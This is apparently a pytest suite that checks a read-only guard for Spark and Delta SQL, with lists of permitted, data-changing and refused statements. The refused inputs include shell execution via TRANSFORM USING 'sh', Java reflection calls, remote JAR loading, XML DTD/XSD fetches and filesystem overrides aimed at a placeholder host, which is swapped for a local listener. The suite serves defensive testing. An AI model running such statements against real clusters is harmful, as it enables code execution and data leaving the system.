"""Only statements that read are run: the refused ones are those of Spark's and Delta's documentation. No way that a
statement takes leads to a program, a secret of the process or another host.
"""

import socket
import threading
import zipfile
from collections.abc import Iterator
from contextlib import suppress
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any, cast

import pyspark
import pytest
from pyspark.sql import SparkSession

from pipeline.sql.authority import REACH_OUT, Authority, StatementKind, may_be_there
from pipeline.sql.reader import Reader
from pipeline.sql.statements import Statement
from sources.errors import QueryError

pytestmark = [pytest.mark.spark, pytest.mark.timeout(120)]

READ = {
    StatementKind.QUERY: (
        "SELECT 1",
        "-- why\nSELECT 1",
        "VALUES (1), (2)",
        "TABLE log",
        "FROM log SELECT offset",
        "FROM log |> WHERE offset > 0 |> LIMIT 1",
        "(SELECT 1) UNION ALL SELECT 2 ORDER BY 1",
        "SELECT * FROM IDENTIFIER('log')",
        "SELECT * FROM delta.`/lake/log` VERSION AS OF 3",
    ),
    StatementKind.DESCRIPTION: (
        "SHOW TABLES",
        "SHOW TBLPROPERTIES delta.`/lake/log`",
        "DESCRIBE log",
        "DESCRIBE HISTORY delta.`/lake/log`",
        "DESCRIBE DETAIL delta.`/lake/log`",
        "EXPLAIN FORMATTED SELECT 1",
    ),
    StatementKind.SETTING: (
        "SET",
        "RESET",
        "CREATE TEMPORARY VIEW a AS SELECT 1",
        "CREATE OR REPLACE TEMP VIEW a (n COMMENT 'x') AS SELECT 1",
        "CREATE TEMPORARY VIEW a USING csv OPTIONS (path '/x.csv')",
        "CREATE TEMPORARY FUNCTION f(n INT) RETURNS INT RETURN n + 1",
    ),
}
CHANGE = (
    "INSERT INTO delta.`/lake/log` VALUES (1)",
    "INSERT OVERWRITE DIRECTORY '/x' USING parquet SELECT 1",
    "FROM log INSERT INTO a SELECT offset INSERT INTO b SELECT size",
    "DELETE FROM delta.`/lake/log`",
    "UPDATE delta.`/lake/log` SET size = 0",
    "MERGE INTO log USING a ON true WHEN MATCHED THEN DELETE",
    "CREATE TABLE a (n INT)",
    "CREATE TABLE a SHALLOW CLONE delta.`/lake/log`",
    "CREATE VIEW a AS SELECT 1",
    "CREATE FUNCTION f(n INT) RETURNS INT RETURN n",
    "DROP TABLE log",
    "ALTER TABLE delta.`/lake/log` ADD COLUMN n INT",
    "LOAD DATA INPATH '/x' INTO TABLE log",
    "OPTIMIZE delta.`/lake/log`",
    "VACUUM delta.`/lake/log` RETAIN 0 HOURS",
    "RESTORE TABLE delta.`/lake/log` TO VERSION AS OF 1",
    "CONVERT TO DELTA parquet.`/x`",
    "ANALYZE TABLE log COMPUTE STATISTICS",
    "EXPLAIN DELETE FROM delta.`/lake/log`",
    "EXECUTE IMMEDIATE 'DROP TABLE log'",
    "CALL system.rollback('log', 1)",
    "BEGIN DELETE FROM log; END",
    "USE another",
    "ADD JAR '/x.jar'",
    "CACHE TABLE log",
)

CALLED, CALLS_JAVA = "JAVA()", "java_method('java.lang.Math', 'abs', -1)"
REFUSED = (
    "SELECT TRANSFORM(n) USING 'sh' AS (m) FROM VALUES (1) a(n)",
    "SELECT JAVA()",
    "SELECT reflect('java.lang.Math', 'abs', -1)",
    "SELECT try_reflect('java.lang.Math', 'abs', -1)",
    "SELECT 1 WHERE EXISTS (SELECT 1 FROM VALUES (1) WHERE JAVA() = '1')",
    "SELECT (SELECT max(n) FROM VALUES (1) a(n) WHERE JAVA() = '1')",
    "WITH a AS (SELECT JAVA() AS n) SELECT * FROM a",
    "SELECT transform(array(1), n -> JAVA())",
    "SELECT sum(n) OVER (ORDER BY JAVA()) FROM VALUES (1) a(n)",
    "SELECT count(*) FROM log GROUP BY JAVA()",
    "SELECT * FROM log ORDER BY JAVA()",
    "EXPLAIN SELECT JAVA() FROM VALUES (1)",
    "EXPLAIN EXECUTE IMMEDIATE 'SELECT 1'",
    "CREATE TEMPORARY VIEW reached USING logtwin OPTIONS (path '/x')",
    "SET fs.file.impl = x.Y",
    "SET x = 1",
    "SET spark.sql.variable.substitute = true",
    "CREATE OR REPLACE TEMPORARY VIEW hidden AS SELECT JAVA() AS n; SELECT n FROM hidden",
    "CREATE OR REPLACE TEMPORARY FUNCTION hidden(n INT) RETURNS STRING RETURN JAVA(); SELECT hidden(1)",
)
LET_THROUGH = (
    "SELECT offset, text FROM messages WHERE topic = 'orders' ORDER BY offset",
    """SELECT '"class":"org.apache.spark.sql.catalyst.plans.logical.ScriptTransformation"' AS text""",
    "SELECT current_timestamp() - INTERVAL 1 DAY, date_trunc('hour', now()), 1 / 3, 'a' LIKE 'b', uuid()",
    "SELECT topic, row_number() OVER (PARTITION BY topic ORDER BY offset) FROM log",
    "SELECT json:order::INT, try_variant_get(json, '$.order', 'int') FROM messages",
    "WITH RECURSIVE a(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM a WHERE n < 3) SELECT * FROM a",
    "SELECT * FROM log WHERE offset IN (SELECT offset FROM messages) AND EXISTS (SELECT 1 FROM ledger)",
    "SELECT * FROM VALUES (1, 2) a(x, y) UNPIVOT (v FOR n IN (x, y))",
    "SELECT * FROM (SELECT topic, size FROM log) PIVOT (sum(size) FOR topic IN ('orders'))",
    "SELECT grouping(topic), count(*) FROM log GROUP BY ROLLUP (topic)",
    "SELECT percentile_approx(size, 0.5), count(DISTINCT topic) FILTER (WHERE size > 0) FROM log",
    "SELECT * FROM range(3) LEFT JOIN LATERAL (SELECT id + 1 AS n) LIMIT 2 OFFSET 1",
    "EXPLAIN SELECT * FROM messages",
    "DESCRIBE messages",
    "SET spark.sql.shuffle.partitions = 7",
    "SELECT greatest(hours, 1) FROM (SELECT date_diff(HOUR, now(), now()) AS hours)",
    "FROM log |> EXTEND size + 1 AS more |> SET more = more + 1 |> DROP size |> AGGREGATE max(more) GROUP BY topic",
    "SELECT sum(size) OVER w, rank() OVER (PARTITION BY topic ORDER BY offset) FROM log WINDOW w AS (ORDER BY offset)",
    "SELECT /*+ BROADCAST(a), REPARTITION(2) */ * EXCEPT (size) FROM log a JOIN ledger USING (log_id) WHERE offset = 0",
    "SELECT k, v FROM log LATERAL VIEW explode(map('a', 1)) t AS k, v ORDER BY k LIMIT 3",
    "SELECT CASE WHEN size > 1 THEN 'a' END, CAST(size AS STRING), topic RLIKE 'o.*', offset BETWEEN 1 AND 2 FROM log",
    "SELECT * FROM explode(array(1, 2)) e(n), sql_keywords() LIMIT 1",
    "SELECT topic FROM log TABLESAMPLE (10 PERCENT) INTERSECT SELECT topic FROM log EXCEPT SELECT 'x'",
    "SELECT * FROM log DISTRIBUTE BY topic SORT BY offset",
    "SELECT topic FROM log WHERE topic LIKE ANY ('o%', 'p%') LIMIT ALL",
    "SELECT count(*) FILTER (WHERE size > 1), first_value(size) IGNORE NULLS FROM log GROUP BY CUBE (topic, log_id)",
    "SELECT try_divide(1, 0), transform(array(1), (x, i) -> x + i), struct(1 AS a).a, array(1)[0], map('a', 1)['a']",
    "SELECT EXTRACT(HOUR FROM now()), TRIM(BOTH 'x' FROM 'xax'), POSITION('a' IN 'ba')",
    "SELECT from_xml('<a><b>1</b></a>', 'b INT').b, from_json('{}', 'a INT'), schema_of_xml('<a/>')",
    "SELECT current_date, current_timestamp, current_user(), interval '1' day, date '2026-01-01', x'00'",
    "DESCRIBE EXTENDED messages offset",
    "DESCRIBE FUNCTION max",
    "DESCRIBE QUERY SELECT offset FROM log",
    "SHOW TABLES",
    "SHOW VIEWS LIKE '*age*'",
    "SHOW COLUMNS IN log",
    "SHOW FUNCTIONS LIKE 'max*'",
    "SET",
    "SET spark.sql.ansi.enabled",
    "SET TIME ZONE 'UTC'",
    "RESET spark.sql.shuffle.partitions",
    "CREATE OR REPLACE TEMPORARY FUNCTION plus(n INT) RETURNS INT RETURN n + 1; SELECT plus(1)",
    "CREATE OR REPLACE TEMPORARY FUNCTION many(n INT) RETURNS TABLE (m INT) RETURN SELECT n + 1; SELECT * FROM many(1)",
)

HOST = "HOST"


@pytest.mark.parametrize("kind", StatementKind)
def test_what_reads_is_run(spark: SparkSession, kind: StatementKind) -> None:
    assert {text: Authority(spark).kind_of(Statement(text)) for text in READ[kind]} == dict.fromkeys(READ[kind], kind)


@pytest.mark.parametrize("text", CHANGE)
def test_what_changes_more_than_the_session_is_not(spark: SparkSession, text: str) -> None:
    with pytest.raises(QueryError, match="line 7: this session only reads") as caught:
        Authority(spark).kind_of(Statement(text, 7))
    assert caught.value.found == " ".join(text.split()[:3])


@pytest.mark.parametrize("text", REFUSED)
def test_what_runs_a_program_is_refused(reader: Reader, text: str) -> None:
    with pytest.raises(QueryError, match="only reads"):
        answers(reader, text)


@pytest.mark.parametrize("text", LET_THROUGH)
def test_what_reads_is_let_through(reader: Reader, text: str) -> None:
    """A plan of it is made, by which it is judged. What comes of a plan is Spark's."""
    answers(reader, text)


def test_whatever_of_spark_calls_users_code_is_listed(spark: SparkSession) -> None:
    """Of all expressions that Spark ships, by what they are, not by their names."""
    jvm = cast(Any, spark._jvm)
    load = jvm.java.lang.Class.forName
    users = load("org.apache.spark.sql.catalyst.expressions.UserDefinedExpression")
    (jar,) = (Path(pyspark.__file__).parent / "jars").glob("spark-catalyst_*.jar")
    with zipfile.ZipFile(jar) as classes:
        names = [
            name.removesuffix(".class").replace("/", ".") for name in classes.namelist() if name.endswith(".class")
        ]
    expressions = [name for name in names if may_be_there(name) and "$" not in name]
    assert len(expressions) > 300
    calling = [name for name in expressions if users.isAssignableFrom(load(name)) and not load(name).isInterface()]
    assert calling == []
    assert {name for name in REACH_OUT if may_be_there(name)} == set()


def answers(reader: Reader, text: str) -> None:
    for one in reader.check(text.replace(CALLED, CALLS_JAVA)):
        reader.answer(one, lambda frame: frame.schema)


@dataclass
class Elsewhere:
    """Another host: who comes is noted, and sent away."""

    listening: socket.socket
    came: list[object] = field(default_factory=list)

    @property
    def address(self) -> str:
        host, port = self.listening.getsockname()
        return f"{host}:{port}"

    def note(self) -> None:
        with suppress(OSError):
            while True:
                connection, peer = self.listening.accept()
                self.came.append(peer)
                connection.close()


@pytest.fixture
def elsewhere() -> Iterator[Elsewhere]:
    with socket.create_server(("127.0.0.1", 0)) as listening:
        host = Elsewhere(listening)
        thread = threading.Thread(target=host.note)
        thread.start()
        yield host
        listening.shutdown(socket.SHUT_RDWR)
        thread.join(10)


@pytest.mark.parametrize(
    "variable", ["${env:PATH}", "${system:java.home}", "${spark.app.name}", "${spark:spark.master}"]
)
@pytest.mark.parametrize("before", ["", "RESET; ", "RESET spark.sql.variable.substitute; "])
def test_a_variable_is_no_more_than_its_name(reader: Reader, variable: str, before: str) -> None:
    assert rows(reader, f"{before}SELECT '{variable}' AS said") == [(variable,)]


@pytest.mark.parametrize(
    "text",
    [
        "SELECT * FROM delta.`http://HOST/x`",
        "SELECT sum(id) OVER w FROM range(2) WINDOW w AS (ORDER BY (SELECT max(a) FROM delta.`http://HOST/x`))",
        "FROM range(2) |> WHERE id IN (SELECT id FROM delta.`http://HOST/x`)",
        "TABLE delta.`http://HOST/x`",
        "SELECT * FROM delta.`http://HOST/x` VERSION AS OF 1",
        "SELECT * FROM table_changes_by_path('http://HOST/x', 0)",
        "SELECT * FROM table_changes_by_path('ht' || 'tp://HOST/x', 0)",
        "SELECT * FROM IDENTIFIER('delta.`ht' || 'tp://HOST/x`')",
        "SELECT * FROM IDENTIFIER('delta.`http://HOST/x`')",
        "SELECT * FROM ledger WITH (`fs.file.impl` 'a.B')",
        "DESCRIBE DETAIL 'http://HOST/x'",
        "DESCRIBE DETAIL delta.`http://HOST/x`",
        "DESCRIBE HISTORY delta.`http://HOST/x`",
        "DESCRIBE delta.`http://HOST/x`",
        "DESCRIBE QUERY SELECT * FROM delta.`http://HOST/x`",
        "SHOW TBLPROPERTIES delta.`http://HOST/x`",
        "SHOW COLUMNS IN delta.`http://HOST/x`",
        "EXPLAIN SELECT * FROM delta.`http://HOST/x`",
        "EXPLAIN INSERT INTO delta.`http://HOST/x` SELECT 1",
        "CREATE TEMPORARY VIEW out AS SELECT * FROM delta.`http://HOST/x`",
        "CREATE TEMPORARY VIEW out USING delta OPTIONS (path 'http://HOST/x')",
        "CREATE TEMPORARY VIEW out USING csv OPTIONS (path '/tmp', `fs.file.impl` 'a.B')",
        "CREATE TEMPORARY VIEW out USING xml OPTIONS (path '/tmp', rowTag 'a', rowValidationXSDPath 'http://HOST/x')",
        "CREATE TEMPORARY VIEW out USING jdbc OPTIONS (url 'jdbc:derby://HOST/x', dbtable 'x')",
        "CREATE TEMPORARY FUNCTION out() RETURNS INT RETURN (SELECT count(*) FROM delta.`http://HOST/x`)",
        "CREATE TEMPORARY FUNCTION out() RETURNS TABLE (n INT) RETURN SELECT n FROM delta.`http://HOST/x`",
        "CREATE TEMPORARY FUNCTION out(n INT DEFAULT (SELECT 1 FROM delta.`http://HOST/x`)) RETURNS INT RETURN n",
        "CREATE TEMPORARY FUNCTION out AS 'a.B' USING JAR 'http://HOST/x.jar'",
        "SELECT from_xml('<a/>', 'b INT', map('rowValidation' || 'XSDPath', 'http://HOST/x.xsd'))",
        "SELECT schema_of_xml('<a/>', map('rowValidationXSDPath', 'http://HOST/x.xsd'))",
        """SELECT xpath('<!DOCTYPE a SYSTEM "http://HOST/x.dtd"><a/>', '/a')""",
        "SET spark.sql.catalog.out = org.apache.spark.sql.execution.datasources.v2.jdbc.JDBCTableCatalog",
        "SET spark.sql.adaptive.customCostEvaluatorClass = a.B",
        "SET fs.defaultFS = hdfs://HOST",
        "SELECT * FROM `out`.`lake`.`http://HOST/x`",
    ],
)
def test_no_other_host_hears_of_a_statement(reader: Reader, elsewhere: Elsewhere, text: str) -> None:
    with pytest.raises(QueryError, match="line 1: this session only reads"):
        rows(reader, text.replace(HOST, elsewhere.address))
    assert elsewhere.came == []


def rows(reader: Reader, text: str) -> list[tuple[object, ...]]:
    """Of the last statement."""
    answers = [reader.answer(one, lambda frame: frame.collect()) for one in reader.check(text)]
    return [tuple(row) for row in answers[-1]]
